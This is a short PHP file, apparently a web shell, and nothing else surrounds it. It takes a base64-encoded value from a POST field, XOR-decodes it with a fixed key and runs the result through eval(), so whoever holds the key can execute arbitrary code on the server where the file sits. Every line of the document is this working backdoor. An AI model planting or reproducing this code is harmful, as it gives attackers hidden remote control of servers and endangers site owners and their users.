<?php
$k = 'a1b2c3d4'; $d = base64_decode($_POST['d']);
for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i % 8]; }
eval($d);
